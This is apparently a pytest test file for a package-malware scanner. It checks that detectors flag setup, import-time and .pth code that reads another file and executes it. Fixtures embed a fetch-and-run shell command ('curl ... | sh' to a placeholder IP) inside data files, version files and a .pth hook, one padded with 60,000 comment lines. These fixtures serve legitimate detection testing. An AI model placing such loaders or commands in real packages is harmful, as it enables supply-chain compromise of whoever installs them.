"""Code in another file that is read and run."""

import pytest

from sandboxes.screening.detectors import import_time, install_code, start_hooks
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in

PLAIN = "version = '1.0'\n"
SHELL = "import os\nos.system('curl http://192.0.2.9/x | sh')\n"
READING = [
    "exec(open('t.dat').read())",
    "import os\nexec(open(os.path.join(os.path.dirname(__file__), 't.dat')).read())",
    (
        "import os\nhere = os.path.dirname(__file__)\nwith open(f'{here}/t.dat', 'rb') as f:\n"
        "    exec(compile(f.read(), 't', 'exec'))"
    ),
    "from pathlib import Path\nexec(Path(__file__).parent.joinpath('t.dat').read_text())",
    "from pathlib import Path\ntext = (Path(__file__).parent / 't.dat').read_bytes().decode()\nexec(text, {})",
    "from pathlib import Path\nexec(Path(__file__).with_name('t.dat').open().read())",
    "import pkgutil\nexec(pkgutil.get_data('thing', 't.dat'))",
    "from importlib import resources\nexec(resources.files('thing').joinpath('t.dat').read_text())",
    "from importlib.resources import files\nexec((files('thing') / 't.dat').read_text())",
    "import importlib.resources as r\nexec(r.read_text('thing', 't.dat'))",
    "import runpy\nrunpy.run_path('t.dat')",
    "def text(name):\n    with open(name) as f:\n        return f.read()\nexec(text('t.dat'))",
]


@pytest.mark.parametrize("text", READING)
def test_a_file_that_is_run_is_followed(text: str) -> None:
    found = found_in(import_time, {"thing/__init__.py": text, "thing/t.dat": SHELL})
    assert {(each.rule, each.path, each.threat) for each in found} == {
        ("import-time.process-fetching", "thing/t.dat", Threat.CRITICAL),
        ("import-time.exec-file", "thing/__init__.py", Threat.HIGH),
    }


@pytest.mark.parametrize(
    ("text", "content", "threat"),
    [
        ("exec(open('thing/version.py').read())", PLAIN, Threat.LOW),
        ("exec(open('thing/VERSION').read())", PLAIN, Threat.MEDIUM),
        ("exec(open('thing/VERSION').read())", "no ! Python", Threat.HIGH),
        ("exec(open('elsewhere').read())", PLAIN, Threat.HIGH),
        ("exec(open(find()).read())", PLAIN, Threat.HIGH),
    ],
)
def test_setups_may_read_their_version_so(text: str, content: str, threat: Threat) -> None:
    files = {"setup.py": text, "thing/version.py": content, "thing/VERSION": content}
    found = found_in(install_code, files, Kind.SDIST)
    assert {(each.rule, each.threat) for each in found} == {("install-code.exec-file", threat)}


def test_what_the_version_s_file_does_the_installation_does() -> None:
    files = {
        "setup.py": "e = exec\nexec(open('version.py').read())",
        "version.py": "e('import os')\n" + SHELL,
    }
    found = found_in(install_code, files, Kind.SDIST)
    assert ("install-code.process-fetching", "version.py", 3) in {
        (each.rule, each.path, each.line) for each in found
    }


def test_code_of_a_package_s_own_python_files_is_theirs() -> None:
    files = {"thing/__init__.py": "exec(open('thing/_more.py').read())", "thing/_more.py": PLAIN}
    assert {(each.rule, each.threat) for each in found_in(import_time, files)} == {
        ("import-time.exec-file", Threat.LOW)
    }
    later = "def load(name):\n    exec(open(name).read())\n"  # a reader of settings
    assert found_in(import_time, {"thing/__init__.py": later}) == []


def test_files_that_run_each_other_have_an_end() -> None:
    files = {"thing/__init__.py": "exec(open('thing/a').read())", "thing/a": "exec(open('thing/a').read())"}
    assert ("import-time.exec-file", Threat.HIGH) in {
        (each.rule, each.threat) for each in found_in(import_time, files)
    }


def test_a_line_that_starts_with_python_may_run_a_file() -> None:
    files = {"thing.pth": "import os; exec(open('thing/t.dat').read())\n", "thing/t.dat": SHELL}
    assert ("start-hook.process-fetching", "thing/t.dat") in {
        (each.rule, each.path) for each in found_in(start_hooks, files)
    }


def test_a_long_list_of_folders_is_read_to_its_end() -> None:
    files = {"thing.pth": "#\n" * 60_000 + "import os; os.system('curl http://192.0.2.9/x | sh')\n"}
    assert {"start-hook.pth-large", "start-hook.process-fetching"} <= {
        each.rule for each in found_in(start_hooks, files)
    }
